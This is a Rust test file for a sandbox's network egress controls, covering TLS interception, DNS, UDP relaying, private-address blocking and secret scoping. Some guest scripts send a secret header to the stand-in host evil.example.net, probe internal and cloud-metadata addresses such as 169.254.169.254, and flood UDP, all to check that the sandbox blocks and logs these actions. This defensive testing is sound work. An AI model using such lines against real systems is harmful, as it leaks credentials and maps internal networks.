//! The public network, where it is opened: all of it, and still nothing else.

use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use matchlock_testkit::dns::Reply;
use serde_json::{Value, json};

use crate::lab::{API, NetLab, Traps, fresh_address};

cases![
    a_star_opens_the_public_network_and_looks_into_it,
    the_default_can_be_the_public_network_and_is_not_looked_into,
    datagrams_are_relayed_and_their_answers_come_back,
    private_addresses_stay_closed,
    a_secret_is_for_its_host_in_the_public_network_too,
];

/// Issuer of the certificate that the guest sees, and what the network lets it do.
const LOOK: &str = r"
def issuer(host):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    stream = context.wrap_socket(connect(host, 443), server_hostname=host)
    der = stream.getpeercert(binary_form=True)
    pem = ssl.DER_cert_to_PEM_cert(der)
    done = subprocess.run(['openssl', 'x509', '-noout', '-issuer', '-fingerprint', '-sha256'],
                          input=pem.encode(), capture_output=True)
    return done.stdout.decode()

host, address = 'api.example.com', sys.argv[1]
seen['addresses'] = lookup(host)
seen['issuer'] = outcome(lambda: issuer(host))
seen['https'] = status(f'https://{host}/https', '-k')
seen['http'] = status(f'http://{host}/http')
seen['by address'] = status(f'http://{address}/address')
seen['unknown'] = lookup('no.example.org')
seen['HTTPS'] = ask(host, 65)
seen['TXT'] = ask(host, 16)
seen['ANY'] = ask(host, 255)
seen['TCP'] = ask(host, 1, over_tcp=True)
seen['853'] = tcp(address, 853)
seen['443/udp'] = udp(address, 443, bytes(1200))
seen['853/udp'] = udp(address, 853, bytes(100))
";

fn lab_with_records() -> NetLab {
    let lab = NetLab::new();
    let address = lab.address.to_string();
    lab.dns.set(API, Reply::addresses(&[&address]).text("a note"));
    lab
}

fn a_star_opens_the_public_network_and_looks_into_it() {
    let lab = lab_with_records();
    let address = lab.address.to_string();
    let seen = lab.python(&["--allow-host", "*"], LOOK, &[&address]);
    assert_eq!(seen["addresses"], json!([address]), "real answers: {seen}");
    assert!(seen["issuer"].to_string().contains("Matchlock"), "{seen}");
    for ok in ["https", "http", "by address"] {
        assert_eq!(seen[ok], "200", "{ok}: {seen}");
    }
    assert_eq!((&seen["unknown"], &seen["TCP"]), (&json!("unknown"), &json!("0/2")));
    assert_eq!((&seen["HTTPS"], &seen["ANY"]), (&json!("0/0"), &json!("4/0")), "{seen}");
    assert_eq!(seen["TXT"], "0/1", "{seen}");
    for closed in ["853", "443/udp", "853/udp"] {
        assert_eq!(seen[closed], "ECONNREFUSED", "{closed}: {seen}");
    }
    assert!(!lab.dns.received().iter().any(|asked| asked.kind == "HTTPS"));
    let requests = lab.events("request");
    assert_eq!(requests.len(), 3);
    assert!(requests.iter().all(|request| request["rule"] == "allow-host *"), "{requests:?}");
}

fn the_default_can_be_the_public_network_and_is_not_looked_into() {
    let lab = lab_with_records();
    let address = lab.address.to_string();
    let invocation = lab.program(&["--json"], LOOK, &[&address]);
    let finished = invocation.env("MATCHLOCK_DEFAULT_EGRESS", "public").finish().expect(0);
    let seen: Value = serde_json::from_str(&finished.out()).expect("JSON");
    assert_eq!(seen["addresses"], json!([address]), "{seen}");
    let issuer = seen["issuer"].to_string();
    assert!(issuer.contains("issuer") && !issuer.contains("Matchlock"), "{seen}");
    for ok in ["https", "http", "by address"] {
        assert_eq!(seen[ok], "200", "{ok}: {seen}");
    }
    // Nobody is there, which is what the real network says.
    assert_eq!((&seen["853"], &seen["HTTPS"]), (&json!("ECONNREFUSED"), &json!("0/1")), "{seen}");
    assert!(lab.dns.received().iter().any(|asked| asked.kind == "HTTPS"));
    assert_eq!(lab.events("request").len(), 0, "nothing is looked into");
    assert_eq!(lab.origin.requests().len(), 3);
    let start = &lab.audit()[0];
    assert_eq!(start["network"]["sealed"], false, "{start}");
    assert_eq!(start["network"]["intercepted"], false, "{start}");

    // The same with interception asked for.
    let lab = lab_with_records();
    let address = lab.address.to_string();
    let invocation = lab.program(&["--network-intercept"], LOOK, &[&address]);
    let finished = invocation.env("MATCHLOCK_DEFAULT_EGRESS", "public").finish().expect(0);
    let seen: Value = serde_json::from_str(&finished.out()).expect("JSON");
    assert!(seen["issuer"].to_string().contains("Matchlock"), "{seen}");
    assert_eq!((&seen["HTTPS"], &seen["443/udp"]), (&json!("0/0"), &json!("ECONNREFUSED")));
    // And with a list: then that is all.
    let lab = lab_with_records();
    let address = lab.address.to_string();
    let invocation = lab.program(&["--allow-host", "other.example.org"], LOOK, &[&address]);
    let finished = invocation.env("MATCHLOCK_DEFAULT_EGRESS", "public").finish().expect(0);
    let seen: Value = serde_json::from_str(&finished.out()).expect("JSON");
    assert_eq!((&seen["addresses"], &seen["by address"]), (&json!("unknown"), &json!("curl 7")));
    assert_eq!((lab.origin.connections(), lab.dns.received().len()), (0, 0));
}

/// A server that sends datagrams back, with the number of those that it got.
fn echo(address: SocketAddr) -> Arc<AtomicU64> {
    let socket = UdpSocket::bind(address).expect("a port");
    let count = Arc::new(AtomicU64::new(0));
    let counted = Arc::clone(&count);
    std::thread::spawn(move || {
        let mut buffer = [0; 65536];
        while let Ok((length, from)) = socket.recv_from(&mut buffer) {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = socket.send_to(&buffer[..length], from);
        }
    });
    count
}

fn datagrams_are_relayed_and_their_answers_come_back() {
    for (flags, default, quic) in [
        (&["--allow-host", "*"][..], "deny", 0),
        (&[], "public", 1),
        (&["--network-intercept"], "public", 0),
    ] {
        let lab = NetLab::new();
        let (near, far) = (fresh_address(), fresh_address());
        let counts = [(near, 4000), (near, 443), (far, 123)]
            .map(|(ip, port)| echo(SocketAddr::new(ip.into(), port)));
        let program = r"
near, far = sys.argv[1:3]
seen['near'] = udp(near, 4000, b'abc')
seen['large'] = len(udp(near, 4000, bytes(1400)))
seen['far'] = udp(far, 123, b'xyz')
seen['quic'] = udp(near, 443, b'quic')
# One socket, two servers: each answer comes from where it was sent to.
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
    datagrams.settimeout(10)
    datagrams.sendto(b'1', (near, 4000))
    datagrams.sendto(b'2', (far, 123))
    seen['both'] = sorted([data.decode(), who[0]] for data, who in
                          (datagrams.recvfrom(100), datagrams.recvfrom(100)))
for number in range(2000):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b'flood', (near, 4000))
";
        let arguments = [near.to_string(), far.to_string()];
        let invocation = lab.program(flags, program, &[&arguments[0], &arguments[1]]);
        let out = invocation.env("MATCHLOCK_DEFAULT_EGRESS", default).finish().expect(0).out();
        let seen: Value = serde_json::from_str(&out).expect("JSON");
        assert_eq!((&seen["near"], &seen["far"]), (&json!("616263"), &json!("78797a")), "{seen}");
        assert_eq!(seen["large"], 2800, "{seen}");
        assert_eq!(seen["both"], json!([["1", arguments[0]], ["2", arguments[1]]]));
        let refused = if quic == 0 { "ECONNREFUSED" } else { "71756963" };
        assert_eq!(seen["quic"], refused, "{default} {flags:?}");
        assert_eq!(counts[1].load(Ordering::SeqCst), quic);
        let flows = lab.events("flow_open");
        let udp = flows.iter().filter(|f| f["protocol"] == "udp" && f["decision"] == "allowed");
        assert!((4..=2010).contains(&udp.count()), "each is recorded");
    }
}

fn private_addresses_stay_closed() {
    for (flags, default) in [(&["--allow-host", "*"][..], "deny"), (&[], "public")] {
        let lab = NetLab::new();
        let traps = Traps::new();
        for (name, address) in [("in.example.com", "10.66.0.1"), ("me.example.com", "127.0.0.1")] {
            lab.dns.set(name, Reply::addresses(&[address]));
        }
        let program = r"
port = int(sys.argv[1])
hosts = ['10.66.0.1', '172.20.0.1', '192.168.66.1', '100.64.0.9', '100.100.100.200', GATEWAY,
         '169.254.169.254', '169.254.7.7', '192.0.2.7', 'fd00:ec2::254', 'fd12::1', GATEWAY6,
         '64:ff9b::a9fe:a9fe', '64:ff9b::7f00:1', '2002:a42:1::1', '2001:db8::7', '198.19.0.9',
         '11.0.0.1', '2a00::53']
for host in hosts:
    seen[host] = [tcp(host, port), udp(host, port)]
seen['names'] = [lookup(name) for name in ('in.example.com', 'me.example.com',
                                           'host.matchlock.internal', 'host.docker.internal')]
seen['reverse'] = [ask(n, 12) for n in ('1.0.66.10.in-addr.arpa', '254.169.254.169.in-addr.arpa')]
seen['public'] = tcp(sys.argv[2], port)
";
        let public = fresh_address().to_string();
        let invocation = lab.program(flags, program, &[&traps.port(), &public]);
        let out = invocation.env("MATCHLOCK_DEFAULT_EGRESS", default).finish().expect(0).out();
        let mut seen: Value = serde_json::from_str(&out).expect("JSON");
        let seen = seen.as_object_mut().expect("an object");
        assert_eq!(seen.remove("public"), Some(json!("open")));
        assert_eq!(seen.remove("names"), Some(json!(["unknown", "unknown", "unknown", "unknown"])));
        assert_eq!(seen.remove("reverse"), Some(json!(["3/0", "3/0"])));
        for (host, got) in seen.iter() {
            assert_eq!(got, &json!(["ECONNREFUSED", "ECONNREFUSED"]), "{host}");
        }
        assert_eq!(traps.caught(), [public]);
        traps.assert_untouched();
    }
}

fn a_secret_is_for_its_host_in_the_public_network_too() {
    let lab = NetLab::new();
    let program = r"
key = os.environ['KEY']
for url in ('https://api.example.com/own', 'https://evil.example.net/x', 'http://evil.example.net/x',
            f'http://{sys.argv[1]}/x'):
    seen[url] = status(url, '-H', f'X-Key: {key}')
";
    let secret = format!("KEY=value-of-the-key@{API}");
    let flags = ["--allow-host", "*", "--secret", &secret];
    let seen = lab.python(&flags, program, &[&lab.address.to_string()]);
    let statuses: Vec<_> = seen.as_object().expect("an object").values().cloned().collect();
    assert_eq!(statuses.iter().filter(|status| *status == "403").count(), 3, "{seen}");
    let requests = lab.origin.requests();
    assert_eq!(requests.len(), 1, "{seen}");
    assert_eq!(requests[0].header("x-key"), Some("value-of-the-key"));
    assert_eq!(lab.events("secret_leak").len(), 3);
}
